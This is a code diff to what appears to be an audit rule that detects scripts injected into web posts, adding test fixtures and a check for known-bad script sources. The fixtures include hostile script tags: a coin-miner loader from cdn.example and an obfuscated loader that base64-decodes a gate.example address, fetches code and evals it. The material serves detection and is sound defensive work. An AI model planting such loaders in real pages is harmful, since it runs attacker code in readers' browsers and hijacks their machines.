@@ -4,9 +4,8 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING
 
-from audit.facts import CONTENT
 from audit.facts.url import parse_url
-from audit.finding import Confidence, CorpusFinding, Evidence, Place, Severity, Witness, others
+from audit.finding import Confidence, CorpusFinding, Evidence, Severity, Witness, others
 from audit.rule import Bad, CorpusRule, Good
 from audit.rules.injected._code import (
     AUTOMATIC,
@@ -17,7 +16,8 @@ from audit.rules.injected._code import (
     loaded_addresses,
     named_addresses,
     pieces,
-    scripts_beside,
+    reading_of,
+    scripts,
     shown,
     source_of,
 )
@@ -58,9 +58,21 @@ class InjectedScript(CorpusRule, code="INJ001", severity=Severity.ERROR, since="
         Bad(f'{_TEXT}<script src="https://203.0.113.7/w.js"></script>', says="203.0.113.7"),
         Bad(f'{_TEXT}<script src="https://traffic-gate.example/in.js"></script>', says="traffic-gate.example"),
         Bad(
+            f'{_TEXT}<script src="https://cdn.example/coinhive.min.js"></script>',
+            says="comes from cdn.example and makes readers' computers mine coins",
+        ),
+        Bad(
             f"{_TEXT}<script>var s=document.createElement('script');s.src='//gate.example/w.js';"
             "document.head.appendChild(s)</script>",
             says="gate.example",
+        ),
+        Bad(
+            f"{_TEXT}<script>fetch(atob('Ly9nYXRlLmV4YW1wbGUvYQ==')).then(r=>r.text()).then(t=>eval(t))</script>",
+            says="from an address that it hides",
+        ),
+        Good(
+            f"{_TEXT}<script>fetch(atob('L3RpZGVzLmpzb24=')).then(r=>r.json()).then(show)</script>",
+            note="It runs nothing of what it gets.",
         ),
         Bad(
             _TEXT,
@@ -114,8 +126,7 @@ class InjectedScript(CorpusRule, code="INJ001", severity=Severity.ERROR, since="
 
     def gather(self, facts: Facts) -> Iterable[tuple[str, Witness]]:
         """One witness for each script that says something suspicious; key: site, and host or sign."""
-        beside = list(scripts_beside(facts))
-        return _suspicious(facts, beside) if beside or pieces(facts) or facts.elements("script") else ()
+        return _suspicious(facts) if scripts(facts) or pieces(facts) else ()
 
     def check(self, key: str, witnesses: Sequence[Witness], totals: SiteTotals) -> Iterable[CorpusFinding]:
         """One finding for each post; silent about what is not certain and stands in half of the site's posts."""
@@ -149,19 +160,15 @@ class InjectedScript(CorpusRule, code="INJ001", severity=Severity.ERROR, since="
 _Values = tuple[str, bool, str, str, str]
 
 
-def _suspicious(facts: Facts, beside: Iterable[tuple[str, Place, Element]]) -> Iterator[tuple[str, Witness]]:
-    for node in facts.elements("script"):
+def _suspicious(facts: Facts) -> Iterator[tuple[str, Witness]]:
+    for holder, node in scripts(facts):
         if (found := _linked(node, facts)) is not None:
-            yield f"{facts.site}\t{found[0]}", Witness((*found[1], "text"), Place(CONTENT, node))
+            yield f"{facts.site}\t{found[0]}", Witness((*found[1], holder.name), holder.place_of(node))
     for piece in pieces(facts):
         if piece.kind == "handler" and piece.attribute in AUTOMATIC:
             continue
         if (found := _inline(piece, facts)) is not None:
-            yield f"{facts.site}\t{found[0]}", Witness((*found[1], "text"), piece.place)
-    for name, place, node in beside:
-        found = _linked(node, facts) if source_of(node) else _inline(Piece("script", node, "", node.text), facts)
-        if found is not None:
-            yield f"{facts.site}\t{found[0]}", Witness((*found[1], name), place)
+            yield f"{facts.site}\t{found[0]}", Witness((*found[1], piece.where), piece.place)
 
 
 def _linked(node: Element, facts: Facts) -> tuple[str, _Values] | None:
@@ -174,6 +181,8 @@ def _linked(node: Element, facts: Facts) -> tuple[str, _Values] | None:
         return "data", ("stands in its own address", True, "", shown(url.href), "")
     if not url.host:
         return None
+    if known := [hit for hit in reading_of(url.href).hits if hit.certain]:
+        return url.host, (f"comes from {url.host} and {known[0].says}", True, url.host, shown(url.href), "")
     odd = oddness(url)
     if not odd and is_named_beside(url, node, facts):
         return None
